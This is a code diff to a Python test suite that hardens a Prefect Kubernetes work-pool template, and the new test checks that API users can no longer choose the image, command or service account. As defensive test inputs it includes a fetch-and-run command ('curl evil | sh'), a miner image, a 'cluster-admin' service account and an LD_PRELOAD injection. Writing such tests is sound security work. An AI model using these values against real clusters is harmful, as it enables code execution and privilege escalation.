@@ -78,8 +78,34 @@ def test_work_pool_template_declares_every_variable_it_uses():
     declared = set(template["variables"]["properties"])
     assert used <= declared, used - declared
     job = template["job_configuration"]["job_manifest"]
-    assert job["kind"] == "Job" and job["spec"]["template"]["spec"]["containers"][0]["image"] == "{{ image }}"
+    assert job["kind"] == "Job" and job["spec"]["template"]["spec"]["containers"][0]["image"] == "adaptflow:0.1.0"
     assert template["variables"]["properties"]["namespace"]["default"] == "adaptflow"
+
+
+def test_work_pool_users_cannot_choose_what_runs():
+    """Issue 27, finding 13. Old template: `image`, `command` and `service_account_name` were
+    variables, so any Prefect-API user could run any image and command under any service account
+    (a deployment's or a run's job variables). Now they are fixed in the template, and the Prefect
+    server's own validation (the schema check it runs on deployments and runs) refuses them."""
+    from prefect.utilities.schema_tools.validation import ValidationError, validate
+
+    template = json.loads((INFRA / "k8s" / "work-pool-template.json").read_text())
+    schema = template["variables"]
+    assert not {"image", "command", "service_account_name"} & set(schema["properties"])
+    for chosen in ({"image": "attacker/miner:latest"}, {"command": "sh -c 'curl evil | sh'"},
+                   {"service_account_name": "cluster-admin"}, {"env": {"LD_PRELOAD": "/tmp/x.so"}}):
+        with pytest.raises(ValidationError):
+            validate(chosen, schema, raise_on_error=True, preprocess=True, ignore_required=True)
+    validate({"memory_limit": "16Gi", "gpus": 1}, schema, raise_on_error=True, preprocess=True, ignore_required=True)
+    # Rendered with Prefect's templating (what a worker applies), the values forced in anyway: the job is unchanged.
+    from prefect.utilities.templating import apply_values
+
+    forced = {"image": "attacker/miner:latest", "command": "sh", "service_account_name": "cluster-admin"}
+    rendered = json.dumps(apply_values(template["job_configuration"], forced))
+    assert "attacker" not in rendered and "cluster-admin" not in rendered and '"sh"' not in rendered
+    spec = template["job_configuration"]["job_manifest"]["spec"]["template"]["spec"]
+    assert spec["serviceAccountName"] == "default" and spec["automountServiceAccountToken"] is False
+    assert spec["containers"][0]["args"] == ["prefect", "flow-run", "execute"] and "{{ image }}" not in rendered
 
 
 def test_dockerfile_copies_files_that_exist():
